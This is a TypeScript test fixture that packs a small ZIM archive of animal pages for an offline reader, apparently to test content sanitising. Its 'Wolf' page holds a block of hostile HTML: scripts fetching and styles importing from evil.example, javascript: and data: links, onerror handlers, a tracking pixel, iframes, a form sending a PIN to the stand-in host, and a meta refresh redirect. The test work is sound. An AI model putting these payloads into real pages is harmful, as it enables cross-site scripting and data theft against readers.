// A book that the tests write: ordinary pages, one by somebody who means no good, pictures, sounds; packed by zimwriterfs.
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import sharp from "sharp";
import { runTool } from "./library-tools.ts";

export interface SmallBook {
  /** Absolute: the archive. */
  file: string;
  sound: Uint8Array;
  remove(): Promise<void>;
}

const page = (title: string, body: string, head = "") =>
  `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>${title}</title>${head}</head><body>${body}</body></html>`;

/** Whatever may be done to a reader by a page. */
export const HOSTILE = `
<h1>Wolves</h1>
<script>document.title = "stolen"; fetch("https://evil.example/")</script>
<style>@import url("https://evil.example/x.css");</style>
<p onclick="alert(1)" style="background:url(javascript:alert(1))">A wolf is <a href="javascript:alert(2)">dangerous</a>,
 says <a href="data:text/html,<script>alert(3)</script>">a hunter</a>, and <a href="https://evil.example/wolf">a stranger</a>.</p>
<img src="https://evil.example/pixel.gif" alt="spy"><img src="x" onerror="alert(4)">
<iframe src="https://evil.example/"></iframe><object data="evil.swf"></object><embed src="evil.swf">
<form action="https://evil.example/"><input name="pin" value="4711"><button>Send</button></form>
<svg><script>alert(5)</script></svg><math><mtext><script>alert(6)</script></mtext></math>
<noscript><p>no script</p></noscript><template><p>hidden template</p></template>
<p style="display: none">hidden words</p>
<p>The pack howls at night<sup id="ref"><a href="#note">[1]</a></sup>, <a href="Fox.html#Food">unlike foxes</a>.</p>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0; url=https://evil.example/">
<ol class="references"><li id="note">A note about howling wolves in the reference list.</li></ol>`;

/** @param version stands in a page, so that a replaced book can be told from the one before */
export async function makeSmallBook(name: string, version = "first"): Promise<SmallBook> {
  const folder = await mkdtemp(join(tmpdir(), "hearth-book-"));
  const pages = join(folder, "pages");
  await mkdir(join(pages, "media"), { recursive: true });
  const picture = (width: number, height: number) =>
    sharp({ create: { width, height, channels: 3, background: "#cc7733" } })
      .png()
      .toBuffer();
  const sound = new Uint8Array(100_000).map((_, n) => (n * 31) % 251);
  const files: Record<string, string | Uint8Array> = {
    "index.html": page(
      "Animals",
      '<h1>Animals</h1><ul><li><a href="Fox.html">Fox</a></li><li><a href="Wolf.html">Wolf</a></li></ul>',
    ),
    "Fox.html": page(
      "Red fox",
      `<h1>Red fox</h1><p>The <b>red fox</b> is the largest of the true foxes. Edition: ${version}.</p>
       <figure><img src="media/fox.png" alt="A fox" width="300" height="200"><figcaption>A fox in the snow</figcaption></figure>
       <h2 id="Food">Food</h2><p>Foxes eat mice, beetles and windfall apples in an orchard.</p>
       <table class="infobox"><tr><th>Weight</th><td>6 kg</td></tr></table>
       <ol><li>Mice</li><li>Apples<ul><li>sweet ones</li></ul></li></ol><pre>fox  =  quick</pre>`,
    ),
    // zimwriterfs makes a redirect of such a page.
    "Vulpes.html": page("Vulpes vulpes", "", '<meta http-equiv="refresh" content="0;url=Fox.html">'),
    "Wolf.html": page("Wolf", HOSTILE),
    "Lamp.html": page(
      "Fox lamp",
      "<h1>Fox lamp</h1><p>A lamp for hunting a fox at night, out of use since long ago.</p>",
    ),
    "media/fox.png": await picture(300, 200),
    "media/howl.ogg": sound,
    "media/evil.js": "alert(7)",
    "icon.png": await picture(48, 48),
  };
  for (const [path, content] of Object.entries(files)) await writeFile(join(pages, path), content);
  const file = join(folder, `${name}.zim`);
  await runTool("zimwriterfs", [
    ...["--welcome", "index.html", "--illustration", "icon.png", "--language", "eng", "--title", "Animals"],
    ...["--description", "Animals of the wood", "--creator", "Hearth", "--publisher", "Hearth", "--name", name],
    ...["--threads", "1", pages, file],
  ]);
  return { file, sound, remove: () => rm(folder, { recursive: true, force: true }) };
}
